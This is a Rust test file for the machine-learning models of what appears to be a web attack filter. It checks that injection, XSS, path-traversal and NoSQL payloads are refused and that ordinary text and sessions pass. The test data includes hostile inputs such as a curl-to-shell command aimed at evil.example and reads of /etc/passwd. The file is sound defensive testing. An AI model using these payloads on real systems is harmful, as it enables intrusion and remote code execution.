//! The models in `models/`, as they are shipped: they load, and plain cases come out plainly.

use std::path::{Path, PathBuf};

use super::*;
use crate::behaviour::SessionFeatures;
use crate::inspection::{self, AttackClass, EncodedText, Place, Targets, read};
use crate::metrics::Metrics;

fn shipped() -> ModelSet {
    let config = Config {
        dir: Path::new(env!("CARGO_MANIFEST_DIR")).join("models"),
        runtime_library: std::env::var_os("ORT_DYLIB_PATH").map(PathBuf::from),
        threads: 1,
        deadline: Duration::from_secs(20),
        ..Config::default()
    };
    ModelSet::load(&config, Metrics::new().unwrap().model).unwrap_or_else(|faults| panic!("{faults:?}"))
}

fn windows(place: &str, text: &str) -> Vec<EncodedText> {
    let settings = inspection::Config::default();
    let mut targets = Targets::new(settings.max_fields);
    Place::parse(place).unwrap().read(text.as_bytes(), &mut targets);
    let readings = read(&targets.into_parts().0, settings.rounds);
    readings.iter().flat_map(|reading| reading.windows()).map(|window| window.to_owned()).collect()
}

/// Whether the text is refused at medium sensitivity, and for what.
async fn refused(models: &ModelSet, place: &str, text: &str) -> Option<AttackClass> {
    let scores = models.text.classify(windows(place, text)).await.unwrap();
    let score = scores.into_iter().max_by(|left, right| left.attack.total_cmp(&right.attack))?;
    (score.attack >= models.text_thresholds.refuse(Sensitivity::Medium, score.class)).then_some(score.class)
}

#[tokio::test]
async fn refuses_plain_attacks_and_lets_plain_texts_through() {
    let models = shipped();
    for (place, text, expected) in [
        ("query", "id=1%27%20OR%20%271%27%3D%271", Some(AttackClass::Sqli)),
        ("query", "id=1+UNION+SELECT+null,username,password+FROM+users--", Some(AttackClass::Sqli)),
        ("value", "1'; DROP TABLE users;--", Some(AttackClass::Sqli)),
        ("query", "q=%3Cscript%3Ealert(1)%3C/script%3E", Some(AttackClass::Xss)),
        ("value", "\"><img src=x onerror=alert(document.cookie)>", Some(AttackClass::Xss)),
        ("query", "file=..%2f..%2f..%2f..%2fetc%2fpasswd", Some(AttackClass::PathTraversal)),
        ("path", "/static/..%252f..%252f..%252fetc/passwd", Some(AttackClass::PathTraversal)),
        ("value", "127.0.0.1; cat /etc/passwd", Some(AttackClass::Cmdi)),
        ("value", "$(curl http://evil.example/x.sh|sh)", Some(AttackClass::Cmdi)),
        ("body", "{\"user\": {\"$ne\": null}, \"password\": {\"$ne\": null}}", Some(AttackClass::Nosqli)),
        ("query", "filter={\"password\":{\"$regex\":\"^a\"}}", Some(AttackClass::Nosqli)),
        ("body", "{\"email\": \"a@b.example\", \"password\": {\"$gt\": \"\"}}", Some(AttackClass::Nosqli)),
        ("value", "O'Brien & sons", None),
        ("value", "don't drop the table, select a chair", None),
        ("value", "Καλημέρα, τι κάνεις;", None),
        ("body", "{\"title\": \"It's here\", \"tags\": [\"a\", \"b\"], \"price\": 12.5}", None),
        ("body", "<p>Hello <b>world</b>, see <a href=\"https://example.com/a?b=1\">this</a></p>", None),
        ("path", "/assets/js/app.3f2a1b.min.js", None),
        (
            "header",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            None,
        ),
    ] {
        assert_eq!(refused(&models, place, text).await, expected, "{place}: {text}");
    }
}

#[tokio::test]
async fn what_is_asked_beside_a_window_does_not_change_its_score() {
    let models = shipped();
    // Of some the first network is sure, of others all are asked.
    let texts =
        ["O'Brien & sons", "1' or '1'='1", "it's 5 > 4; so", "<b>bold</b> & co", "x; cat /etc/passwd", "a=b&c=d'"];
    let all: Vec<EncodedText> = texts.iter().flat_map(|text| windows("value", text)).collect();
    assert!(all.len() >= texts.len());
    let together = models.text.classify(all.clone()).await.unwrap();
    for (window, beside) in all.into_iter().zip(together) {
        let alone = models.text.classify(vec![window.clone()]).await.unwrap()[0];
        assert!((alone.attack - beside.attack).abs() < 1e-4, "{window:?}: {alone:?}, {beside:?}");
        assert_eq!(alone.class, beside.class, "{window:?}");
    }
}

#[test]
fn judges_plain_visits_plainly() {
    let models = shipped();
    let visit = |login_attempts, post_requests, requests, codes_4xx, duration_ms| SessionFeatures {
        login_attempts,
        post_requests,
        requests,
        codes_4xx,
        duration_ms,
        ..SessionFeatures::default()
    };
    for (expected, features) in [
        (false, visit(0, 10, 120, 2, 180_000)),
        (false, visit(0, 0, 1, 1, 0)),
        (false, visit(0, 0, 5, 2, 4_000)),
        (false, visit(2, 2, 8, 2, 20_000)),
        (false, visit(0, 20, 180, 0, 240_000)),
        (true, visit(0, 0, 80, 80, 3_000)),
        (true, visit(0, 5, 60, 45, 20_000)),
        (true, visit(40, 40, 40, 40, 9_000)),
        (true, visit(0, 0, u32::MAX, u32::MAX, u64::MAX)),
    ] {
        let score = models.behaviour.abnormality(&features).unwrap();
        assert_eq!(score >= models.behaviour_thresholds.closed, expected, "{features:?} has {score}");
    }
}
